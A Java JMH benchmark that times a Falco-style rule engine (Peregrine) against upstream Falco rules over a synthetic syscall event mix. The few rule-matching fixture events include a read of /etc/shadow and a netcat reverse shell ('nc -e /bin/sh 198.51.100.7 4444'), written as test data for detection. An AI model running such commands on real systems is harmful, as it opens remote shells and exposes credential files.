package dev.peregrine.bench.rules;

import dev.peregrine.rules.LoadResult;
import dev.peregrine.rules.Rule;
import dev.peregrine.rules.RuleLoader;
import dev.peregrine.rules.RuleSet;
import dev.peregrine.rules.RulesFile;
import dev.peregrine.rules.event.ContainerRecord;
import dev.peregrine.rules.event.EventRecord;
import dev.peregrine.rules.event.FdRecord;
import dev.peregrine.rules.event.ThreadRecord;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.infra.Blackhole;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/**
 * Throughput of the unchanged upstream Falco rules over a realistic event mix: mostly
 * non-matching opens, execs and connects (plus reads/writes no rule looks at), with about 2%
 * of events that match a rule. One operation is one event (Falco's default first-match
 * evaluation through the event-type index); ns/op is ns/event, ops/s is events/s on one core.
 *
 * <p>Run: {@code bench/run-rules-benchmark.sh} (finds ../shared/falco-rules or /work/shared/falco-rules).
 */
@State(Scope.Thread)
@Fork(value = 1, jvmArgsAppend = {"-Xms512m", "-Xmx512m"})
@Warmup(iterations = 2, time = 2)
@Measurement(iterations = 3, time = 3)
public class RulesBenchmark {
    static final int EVENTS = 4096;

    /** stable = falco_rules.yaml (25 rules); all = stable + incubating + sandbox (81 enabled rules). */
    @Param({"stable", "all"})
    public String ruleset;

    private RuleSet.Evaluator evaluator;
    private EventRecord[] events;
    private int next;

    @Setup
    public void setup() throws IOException {
        List<String> names = ruleset.equals("stable") ? List.of("falco_rules.yaml")
                : List.of("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml");
        List<RulesFile> files = new ArrayList<>();
        Path dir = rulesDirectory();
        for (String n : names) {
            files.add(new RulesFile(n, Files.readString(dir.resolve(n))));
        }
        LoadResult result = RuleLoader.load(files);
        if (!result.ok()) {
            throw new IllegalStateException("rules do not load: " + result.errors());
        }
        evaluator = result.ruleSet().orElseThrow().evaluator();
        events = EventMix.generate(EVENTS, new Random(42));
        int matching = 0;
        for (EventRecord e : events) {
            if (evaluator.firstMatch(e) != null) {
                matching++;
            }
        }
        System.out.printf("%n%s: %d rules, %d events, %d matching (%.1f%%)%n", ruleset, evaluator.rules().size(), EVENTS,
                matching, 100.0 * matching / EVENTS);
    }

    static Path rulesDirectory() {
        String configured = System.getProperty("peregrine.rules.dir");
        List<Path> candidates = new ArrayList<>();
        if (configured != null) {
            candidates.add(Path.of(configured));
        }
        candidates.add(Path.of("../shared/falco-rules"));
        candidates.add(Path.of("/work/shared/falco-rules"));
        for (Path p : candidates) {
            if (Files.isRegularFile(p.resolve("falco_rules.yaml"))) {
                return p;
            }
        }
        throw new IllegalStateException("falco_rules.yaml not found in " + candidates + "; set -Dperegrine.rules.dir");
    }

    /** One event per operation, sampled: the median (p0.50) is the median ns per event. */
    @Benchmark
    @BenchmarkMode(Mode.SampleTime)
    @OutputTimeUnit(TimeUnit.NANOSECONDS)
    public Rule evaluateOne() {
        EventRecord e = events[next];
        next = (next + 1) & (EVENTS - 1);
        return evaluator.firstMatch(e);
    }

    /** The whole mix per invocation; reported as events per second. */
    @Benchmark
    @BenchmarkMode(Mode.Throughput)
    @OperationsPerInvocation(EVENTS)
    @OutputTimeUnit(TimeUnit.SECONDS)
    public void evaluateMix(Blackhole bh) {
        for (EventRecord e : events) {
            bh.consume(evaluator.firstMatch(e));
        }
    }

    /** Builds the event mix from a fixed seed. */
    static final class EventMix {
        private EventMix() {
        }

        static final long T0 = 1_764_365_450_000_000_000L;
        static final ContainerRecord CONTAINER = new ContainerRecord("0123456789ab", "app", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop/api:1.4.2",
                "123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop/api", "1.4.2", null, false, T0 - 3_600_000_000_000L, List.of(), null, null);

        static EventRecord[] generate(int n, Random rnd) {
            ThreadRecord init = ThreadRecord.builder().pid(1).name("peregrine-agent").exePath("/opt/peregrine/bin/java").build();
            ThreadRecord node = ThreadRecord.builder().pid(7).name("node").exePath("/usr/local/bin/node").args(List.of("server.js"))
                    .parent(init).cwd("/app").startTimeNanos(T0 - 3_000_000_000_000L).build();
            ThreadRecord sh = ThreadRecord.builder().pid(120).name("sh").exePath("/bin/sh").args(List.of("-c", "convert img.png out.jpg"))
                    .parent(node).cwd("/app").startTimeNanos(T0 - 1_000_000L).build();
            ThreadRecord python = ThreadRecord.builder().pid(30).name("python3").exePath("/usr/bin/python3").args(List.of("worker.py"))
                    .parent(init).cwd("/srv").startTimeNanos(T0 - 2_000_000_000_000L).build();
            ThreadRecord[] procs = {node, python, sh};
            String[] files = {"/usr/lib/x86_64-linux-gnu/libc.so.6", "/app/node_modules/express/index.js", "/app/data/cache.json",
                    "/proc/self/status", "/etc/hosts", "/etc/resolv.conf", "/tmp/upload-1234", "/srv/models/weights.bin",
                    "/usr/share/zoneinfo/UTC", "/dev/urandom", "/var/log/app/app.log", "/etc/ssl/certs/ca-certificates.crt"};
            String[][] execs = {{"ls", "-la", "/app"}, {"node", "scripts/migrate.js"}, {"convert", "img.png", "out.jpg"},
                    {"python3", "-m", "pip", "list"}, {"git", "rev-parse", "HEAD"}, {"curl", "-s", "http://localhost:8080/health"},
                    {"date"}, {"sh", "-c", "echo ok"}};
            EventRecord[] out = new EventRecord[n];
            for (int i = 0; i < n; i++) {
                long t = T0 + i * 1000L;
                int dice = rnd.nextInt(1000);
                ThreadRecord p = procs[rnd.nextInt(procs.length)];
                EventRecord.Builder b;
                if (dice < 20) {
                    // ~2% matching: sensitive reads, terminal shells, netcat, packet sockets, ptrace.
                    b = matching(i, t, p);
                } else if (dice < 420) {
                    String f = files[rnd.nextInt(files.length)];
                    boolean write = rnd.nextInt(5) == 0;
                    b = EventRecord.builder(rnd.nextBoolean() ? "openat" : "open").res(3L + rnd.nextInt(20))
                            .arg("fd", "5").arg("name", f).arg("flags", write ? "O_WRONLY|O_CREAT|O_APPEND" : "O_RDONLY|O_CLOEXEC")
                            .arg("mode", "0").thread(p).fd(FdRecord.file(5, "file", f));
                } else if (dice < 620) {
                    String[] cmd = execs[rnd.nextInt(execs.length)];
                    ThreadRecord child = ThreadRecord.builder().pid(1000 + i).name(cmd[0]).exePath("/usr/bin/" + cmd[0])
                            .args(List.of(cmd).subList(1, cmd.length)).parent(p).cwd("/app").startTimeNanos(t - 50_000).build();
                    b = EventRecord.builder(rnd.nextInt(10) == 0 ? "execveat" : "execve").res(0L).arg("flags", "EXE_WRITABLE")
                            .thread(child);
                } else if (dice < 770) {
                    boolean internal = rnd.nextBoolean();
                    String ip = internal ? "10.0." + rnd.nextInt(4) + "." + (1 + rnd.nextInt(200)) : "52.94." + rnd.nextInt(200) + ".1";
                    int port = internal ? 5432 : 443;
                    b = EventRecord.builder("connect").res(rnd.nextInt(4) == 0 ? -115L : 0L).arg("fd", "7")
                            .thread(p).fd(FdRecord.socket(7, "tcp", "10.0.9.9", 40000 + rnd.nextInt(20000), ip, port, false));
                } else if (dice < 830) {
                    b = EventRecord.builder(rnd.nextBoolean() ? "sendto" : "socket").res(0L).arg("domain", "AF_INET").arg("type", "SOCK_DGRAM")
                            .thread(p).fd(FdRecord.socket(8, "udp", "10.0.9.9", 53000, "10.0.0.2", 53, false));
                } else {
                    String[] types = {"read", "write", "close", "fstat", "mmap", "futex", "epoll_wait", "dup2", "accept4"};
                    String type = types[rnd.nextInt(types.length)];
                    b = EventRecord.builder(type).res(0L).arg("fd", "3").thread(p);
                    if (type.equals("dup2")) {
                        b.fd(FdRecord.file(3, "file", "/dev/null"));
                    }
                }
                out[i] = b.number(i + 1L).time(t).container(CONTAINER).build();
            }
            return out;
        }

        private static EventRecord.Builder matching(int i, long t, ThreadRecord parent) {
            switch (i % 4) {
                case 0 -> {
                    ThreadRecord cat = ThreadRecord.builder().pid(5000 + i).name("cat").exePath("/bin/cat").args(List.of("/etc/shadow"))
                            .parent(parent).build();
                    return EventRecord.builder("openat").res(3L).arg("name", "/etc/shadow").arg("flags", "O_RDONLY")
                            .thread(cat).fd(FdRecord.file(3, "file", "/etc/shadow"));
                }
                case 1 -> {
                    ThreadRecord nc = ThreadRecord.builder().pid(5000 + i).name("nc").exePath("/usr/bin/nc")
                            .args(List.of("-e", "/bin/sh", "198.51.100.7", "4444")).parent(parent).build();
                    return EventRecord.builder("execve").res(0L).arg("flags", "").thread(nc);
                }
                case 2 -> {
                    return EventRecord.builder("socket").res(5L).arg("domain", "AF_PACKET").arg("type", "SOCK_RAW").thread(parent);
                }
                default -> {
                    return EventRecord.builder("ptrace").res(0L).arg("request", "PTRACE_ATTACH").arg("pid", "7").thread(parent);
                }
            }
        }
    }
}
